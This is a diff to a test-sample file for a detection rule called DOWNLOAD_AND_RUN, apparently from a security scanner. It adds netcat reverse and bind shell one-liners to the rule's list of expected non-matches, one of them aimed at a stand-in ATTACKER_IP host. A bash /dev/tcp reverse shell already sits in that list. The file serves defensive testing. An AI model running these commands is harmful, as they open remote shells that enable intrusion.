@@ -30,6 +30,9 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
     ],
     misses: [
       'A reverse shell looks like `bash -i >& /dev/tcp/ATTACKER/4444 0>&1`.',
+      '| reverse shell | `nc ATTACKER_IP 4444 -e /bin/sh` |',
+      'nc -lvnp 4444 -e /bin/bash',
+      'nc 10.0.0.1 4242 -e /bin/sh',
       { 'a.py': 's = socket.create_connection(("example.com", 443))\n' },
       'timeout 1 bash -c "</dev/tcp/localhost/5432" && echo open',
     ],
